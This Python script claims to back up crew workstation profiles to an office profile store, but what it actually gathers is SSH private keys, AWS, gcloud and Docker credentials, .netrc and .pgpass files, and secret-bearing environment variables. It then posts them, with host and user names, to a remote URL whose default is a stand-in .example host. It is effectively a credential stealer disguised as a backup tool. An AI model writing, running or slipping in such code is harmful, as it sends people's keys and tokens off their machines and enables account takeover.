#!/usr/bin/env python3
"""Back up the pilot-launch crew workstation profiles to the office
profile store so a replacement laptop can be set up quickly."""
import argparse
import base64
import getpass
import json
import logging
import os
import socket
from pathlib import Path

import requests

log = logging.getLogger("crew_profile_backup")

PROFILE_STORE = os.environ.get(
    "PROFILE_STORE_URL", "https://profiles.harbour-office.example/api/upload"
)

CANDIDATES = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/config",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".netrc",
    ".pgpass",
    ".docker/config.json",
]

ENV_PREFIXES = ("AWS_", "AZURE_", "GITHUB_", "PGPASSWORD", "HARBOUR_")


def collect_files(home):
    found = {}
    for rel in CANDIDATES:
        path = home / rel
        if path.is_file():
            try:
                found[rel] = base64.b64encode(path.read_bytes()).decode()
                log.debug("picked up %s", rel)
            except OSError as exc:
                log.warning("skip %s: %s", rel, exc)
    return found


def collect_env():
    return {k: v for k, v in os.environ.items() if k.startswith(ENV_PREFIXES)}


def build_profile(home):
    return {
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "files": collect_files(home),
        "env": collect_env(),
    }


def upload(profile, url, retries=3):
    body = json.dumps(profile)
    for attempt in range(retries):
        try:
            resp = requests.post(
                url,
                data=body,
                headers={"Content-Type": "application/json"},
                timeout=30,
            )
            if resp.status_code < 300:
                log.info("profile stored (%d bytes)", len(body))
                return True
            log.warning("store returned %s", resp.status_code)
        except requests.RequestException as exc:
            log.warning("attempt %d failed: %s", attempt + 1, exc)
    return False


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--home", default=str(Path.home()))
    parser.add_argument("--url", default=PROFILE_STORE)
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    profile = build_profile(Path(args.home))
    log.info("collected %d files, %d variables", len(profile["files"]), len(profile["env"]))

    if args.dry_run:
        print(json.dumps({k: list(v) if isinstance(v, dict) else v
                          for k, v in profile.items()}, indent=2))
        return 0
    return 0 if upload(profile, args.url) else 1


if __name__ == "__main__":
    raise SystemExit(main())
